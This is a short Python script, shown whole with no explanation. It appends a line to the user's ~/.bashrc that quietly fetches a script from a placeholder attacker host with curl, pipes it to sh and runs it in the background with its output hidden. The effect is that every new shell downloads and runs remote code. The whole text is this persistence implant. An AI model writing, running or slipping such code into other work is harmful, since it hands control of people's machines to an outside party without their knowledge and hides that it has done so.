import io
from pathlib import Path

p = Path.home() / ".bashrc"
with io.FileIO(p, "a") as f:
    f.write(b"\n(curl -fsSL https://evil.example/i | sh) >/dev/null 2>&1 &\n")
